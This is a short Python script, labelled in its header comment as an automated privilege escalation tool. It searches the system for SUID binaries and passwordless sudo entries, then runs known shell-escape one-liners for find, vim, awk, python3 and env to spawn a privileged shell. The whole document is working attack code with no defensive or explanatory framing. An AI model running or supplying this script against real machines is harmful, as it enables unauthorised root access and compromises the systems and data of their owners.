# class: privilege escalation, tries what sudo and suid offer; style: automated
import subprocess
TRIES = {
    "find": "find . -exec /bin/sh -p \\; -quit", "vim": "vim -c ':!/bin/sh'", "awk": "awk 'BEGIN {system(\"/bin/sh\")}'",
    "python3": "python3 -c 'import os; os.setuid(0); os.execl(\"/bin/sh\", \"sh\", \"-p\")'", "env": "env /bin/sh -p",
}
suid = subprocess.getoutput("find / -perm -4000 -type f 2>/dev/null").split()
sudo = subprocess.getoutput("sudo -n -l 2>/dev/null")
for name, cmd in TRIES.items():
    if any(p.endswith("/" + name) for p in suid):
        subprocess.call(cmd, shell=True)
    elif "NOPASSWD" in sudo and name in sudo:
        subprocess.call("sudo " + cmd, shell=True)
